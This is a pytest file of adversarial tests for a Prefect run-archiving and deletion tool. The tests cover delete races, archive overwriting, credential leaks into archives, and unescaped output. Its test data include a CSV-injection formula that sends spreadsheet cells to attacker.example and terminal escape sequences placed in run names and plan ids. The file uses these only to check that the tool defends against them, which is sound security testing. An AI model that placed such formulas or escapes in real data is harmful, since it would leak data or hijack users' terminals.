"""Adversarial tests of archive-before-delete and ``runner ls`` (branch adv20).

Each test here failed against the code it was written for: it shows a way a promise breaks.

- no run is deleted unless its complete record is durably in the archive first;
- no run outside the reviewed plan is deleted or changed;
- the archive never holds an API key or auth string;
- ``runner ls`` shows exactly what a plan would select and never writes.
"""

from __future__ import annotations

import contextlib
import csv
import gzip
import io
import os
from pathlib import Path
from typing import Any
from urllib.parse import parse_qs

import httpx
import pytest

from runner.archive import ArchiveWriter, archive_record, read_archive
from runner.errors import ArchiveError
from runner.settings import ConnectionSettings
from tests.support.cli import run_cli
from tests.support.seed import Seeder
from tests.test_archive import execute, make_plan, playbook, records

pytestmark = [pytest.mark.anyio]


class MoveDuringArchiveRead(httpx.AsyncBaseTransport):
    """When runner reads ``victim``'s state history for its archive record (after its
    read-back found it as planned, before its delete), another client moves the run to a
    new state first: the history runner archives holds that state."""

    def __init__(self, seeder: Seeder, victim: str, state_type: str, state_name: str) -> None:
        self.inner = httpx.AsyncHTTPTransport()
        self.seeder = seeder
        self.victim = victim
        self.state = (state_type, state_name)
        self.moved = False

    async def handle_async_request(self, request: httpx.Request) -> httpx.Response:
        if (
            not self.moved
            and request.method == "GET"
            and request.url.path.endswith("/flow_run_states/")
            and parse_qs(request.url.query.decode()).get("flow_run_id") == [self.victim]
        ):
            self.moved = True
            self.seeder.set_state(self.victim, *self.state)
        return await self.inner.handle_async_request(request)


def _newest_state_id(record: dict[str, Any]) -> str:
    return str(record["states"][-1]["id"])


@pytest.mark.prefect2
@pytest.mark.parametrize(
    ("state_type", "state_name"),
    [("COMPLETED", "Completed"), ("RUNNING", "Running")],
    ids=["completed-again", "started-running"],
)
async def test_a_run_whose_archived_history_shows_a_state_the_plan_did_not_see_is_not_deleted(
    settings: ConnectionSettings,
    seeder: Seeder,
    tmp_path: Path,
    state_type: str,
    state_name: str,
) -> None:
    """(completed-again fails on Prefect 3 and 2.x; started-running fails on 2.x, where the
    3.x bulk guard's state type catches it.)

    The archive read is a read-back of its own: the state history runner writes to the
    archive ends in the run's current state. When that is not the state the plan saw (the run
    was set Completed again, or started Running: a new state id), runner has, in hand, the
    proof that the run drifted, yet it deletes the run anyway: on Prefect 3 when the new
    state has the planned type and name (the bulk guard passes it), on Prefect 2.x whatever
    the new state is (the per-run delete carries no guard at all, so a run that started
    Running is deleted while it runs, although deletes refuse active runs). The window this
    opens is the archive's own: a state-history request a run, log pages, an fsync."""
    flow = seeder.flow()
    runs = seeder.runs(3, flow, "Completed")
    victim = runs[1]["id"]
    plan = await make_plan(settings, playbook(flow["name"]))
    transport = MoveDuringArchiveRead(seeder, victim, state_type, state_name)
    result = await execute(settings, plan, tmp_path, transport=transport)
    assert transport.moved
    archived = {r["run"]["id"]: r for r in records(tmp_path / "archive.jsonl.gz")}
    # The history read for the archive shows the state the plan did not see: the run is not
    # archived (it is not deleted) and is left alone (drifted), as every other new state is.
    assert victim not in archived
    assert len(archived) == 2  # the others, archived and deleted
    outcome = next(o for o in result.outcomes.values() if str(o.change.run.id) == victim)
    still_there = seeder.read_run(victim)
    assert (outcome.status, still_there is not None) == ("drifted", True), (
        f"run {victim} was deleted ({outcome.status}: {outcome.detail}) though its archived"
        f" history ends in a new {state_name} state the plan never saw"
    )


def _delete_playbook(tmp_path: Path, flow: dict[str, Any], action: str = "delete") -> Path:
    path = tmp_path / "retention.yaml"
    path.write_text(
        f"version: 1\nname: retention\nsteps:\n  - name: clean\n"
        f"    select: {{flows: {flow['name']}}}\n    action: {action}\n"
    )
    return path


@pytest.mark.prefect2
def test_report_at_the_archive_path_does_not_destroy_the_archive(
    api_url: str, seeder: Seeder, tmp_path: Path
) -> None:
    """``--report`` and ``--archive`` naming the same file (a slip of the fingers in a cron
    line): every path is checked before the apply, yet runner deletes the runs, archiving
    them to the file, then overwrites it with the report. The only copy of the deleted runs
    is gone, and ``runner show`` calls the file "not a runner archive"."""
    flow = seeder.flow()
    runs = seeder.runs(3, flow, "Completed")
    path = _delete_playbook(tmp_path, flow)
    applied = run_cli(
        "apply", str(path), "--yes", "--archive", "out.gz", "--report", "out.gz",
        api_url=api_url, cwd=tmp_path,
    )  # fmt: skip
    deleted = not seeder.read_runs(r["id"] for r in runs)
    if applied.returncode != 0 and not deleted:
        return  # refused up front: fine
    assert deleted
    shown = run_cli("show", str(tmp_path / "out.gz"), "--format", "json")
    assert shown.returncode == 0, (
        f"the runs were deleted, but their archive was overwritten by the report: {shown.stderr}"
    )
    assert shown.stdout.count('"id"') == 3


def test_an_archive_path_holding_a_cut_off_foreign_gzip_file_is_not_truncated(
    tmp_path: Path,
) -> None:
    """``--archive`` naming an existing gzip file that is not a runner archive is refused
    ("move it aside"), unless the file happens to be cut off before its first newline (a
    gzip-compressed binary still downloading, a half-copied ``.gz``): runner takes it for an
    archive whose header was torn by a crash and truncates it to nothing, then writes its own
    header in its place. A file runner did not write is destroyed."""
    blob = gzip.compress(os.urandom(4000).replace(b"\n", b"."), mtime=0)
    foreign = tmp_path / "backup.img.gz"
    foreign.write_bytes(blob[:1000])  # a partial download
    before = foreign.read_bytes()
    with (
        contextlib.suppress(ArchiveError),  # refused ("move it aside"): fine
        ArchiveWriter(foreign, plan_id="0123456789ab", playbook="p", server_url="x"),
    ):
        pass
    assert foreign.read_bytes() == before, (
        f"runner truncated a foreign file ({len(before)} bytes) and wrote"
        f" {foreign.stat().st_size} bytes of its own over it"
    )


def test_show_escapes_control_characters_in_the_plan_ids_it_lists(tmp_path: Path) -> None:
    """``runner show`` escapes control characters in every cell of its table, but not in
    its last line, where it counts the runs by plan id: an archive from elsewhere (a shared
    audit folder, a copied file) whose records carry a terminal escape as their plan id
    writes it to the reader's terminal raw (here: set the window title)."""
    path = tmp_path / "archive.jsonl.gz"
    with ArchiveWriter(path, plan_id="x", playbook="p", server_url="x") as writer:
        writer.write(
            [
                archive_record(
                    {"id": "5a1c2b3d-0000-4000-8000-000000000001", "name": "n"},
                    [],
                    logs=None,
                    flow="f",
                    deployment=None,
                    plan_id="\x1b]0;owned\x07\x1b[2J",
                    step=0,
                )
            ]
        )
    shown = run_cli("show", str(path))
    assert shown.returncode == 0, shown.stderr
    assert "\x1b" not in shown.stdout and "\x07" not in shown.stdout, repr(
        shown.stdout.splitlines()[-1]
    )


def test_a_crash_that_leaves_zeros_after_the_last_batch_does_not_block_the_resume(
    tmp_path: Path,
) -> None:
    """Docs: "A crash can only cut off the last batch ... the next apply that appends to the
    file cuts the torn batch off first". After a power loss some filesystems (XFS, ext4
    without data=ordered) leave an unsynced append as zeros rather than cut off: the bytes
    after the last fsynced batch were never acknowledged (their runs were not deleted), yet
    runner calls the file damaged and refuses to append, so the resume stops until someone
    moves the archive aside; ``runner show`` exits 1."""
    path = tmp_path / "archive.jsonl.gz"
    with ArchiveWriter(path, plan_id="0123456789ab", playbook="p", server_url="x") as writer:
        writer.write(
            [
                archive_record(
                    {"id": "5a1c2b3d-0000-4000-8000-000000000001"},
                    [],
                    logs=None,
                    flow="f",
                    deployment=None,
                    plan_id="0123456789ab",
                    step=0,
                )
            ]
        )
    synced = path.stat().st_size
    with open(path, "ab") as handle:
        handle.write(b"\0" * 4096)  # the next batch's blocks, allocated but never written
    with ArchiveWriter(path, plan_id="0123456789ab", playbook="p", server_url="x") as writer:
        assert writer.repaired is not None and writer.repaired.offset == synced
    reader = read_archive(path)
    assert sum(len(b.records) for b in reader.batches()) == 1


@pytest.mark.prefect2
@pytest.mark.parametrize(
    ("variable", "secret"),
    [
        ("PREFECT_API_KEY", "pnu_adv20SecretKey0123456789abcdef"),
        ("PREFECT_API_AUTH_STRING", "admin:adv20-hunter2-password"),
    ],
)
def test_the_archive_never_holds_the_credential_runner_authenticates_with(
    api_url: str, seeder: Seeder, tmp_path: Path, variable: str, secret: str
) -> None:
    """runner registers its API key / auth string and scrubs it from every error, log line
    and URL it shows or stores, but the archive copies the server's documents verbatim: a
    run that was handed the same credential (a parameter, a log line printing its
    environment: how flows that call the Prefect API commonly get and leak it) puts runner's
    own credential, in clear, into a long-lived, 0644 file."""
    flow = seeder.flow()
    run = seeder.run(flow, "Completed", parameters={"prefect_credential": secret})
    seeder.logs(run["id"], [f"environment: {variable}={secret}"])
    path = _delete_playbook(tmp_path, flow, "{delete: {archive: {logs: true}}}")
    applied = run_cli(
        "apply", str(path), "--yes", "--archive", "a.jsonl.gz",
        api_url=api_url, cwd=tmp_path, env={variable: secret},
    )  # fmt: skip
    assert applied.returncode == 0, applied.stdout + applied.stderr
    assert seeder.read_run(run["id"]) is None
    text = gzip.decompress((tmp_path / "a.jsonl.gz").read_bytes()).decode()
    password = secret.partition(":")[2] or secret
    assert secret not in text and password not in text, (
        f"runner's own {variable} is in the archive {text.count(password)} times"
    )


def _csv_rows(api_url: str, flow: dict[str, Any]) -> list[dict[str, str]]:
    listed = run_cli(
        "ls", "--select", f"{{flows: {flow['name']}}}", "--format", "csv", api_url=api_url
    )
    assert listed.returncode == 0, listed.stderr
    return list(csv.DictReader(io.StringIO(listed.stdout)))


@pytest.mark.prefect2
def test_ls_csv_does_not_hand_a_spreadsheet_formulas_from_run_data(
    api_url: str, seeder: Seeder
) -> None:
    """``runner ls --format csv > runs.csv`` is documented for reports; run names and
    parameters are written by whoever can create runs (a webhook-triggered deployment takes
    its parameters from the payload). A cell starting with ``=``, ``+``, ``-``, ``@`` is a
    formula to Excel, LibreOffice and Sheets (OWASP "CSV injection"): opening the report
    runs ``=HYPERLINK(...)``/``=WEBSERVICE(...)`` with the sheet's data. Low severity: the
    usual defence is a leading ``'`` on such cells (or documenting that the CSV is
    untrusted)."""
    flow = seeder.flow()
    formula = '=HYPERLINK("http://attacker.example/?"&A2,"open")'
    seeder.run(flow, "Completed", name=formula, parameters={"note": "=1+1"})
    [row] = _csv_rows(api_url, flow)
    assert not row["name"].startswith(("=", "+", "-", "@")), row["name"]


@pytest.mark.prefect2
def test_ls_csv_escapes_terminal_controls_as_the_table_does(api_url: str, seeder: Seeder) -> None:
    """The table escapes control characters (``\\x1b``) and JSON Lines escapes them as
    JSON does, but CSV writes a run's name raw: ``runner ls --select ... --format csv`` in a
    terminal (or ``| less -R``, ``| column``) runs the escape sequence a run's creator put in
    its name (here: clear the screen and set the window title). Low severity."""
    flow = seeder.flow()
    seeder.run(flow, "Completed", name="x\x1b]0;owned\x07\x1b[2Jy")
    listed = run_cli(
        "ls", "--select", f"{{flows: {flow['name']}}}", "--format", "csv", api_url=api_url
    )
    assert listed.returncode == 0, listed.stderr
    assert "\x1b" not in listed.stdout, repr(listed.stdout.splitlines()[-1])
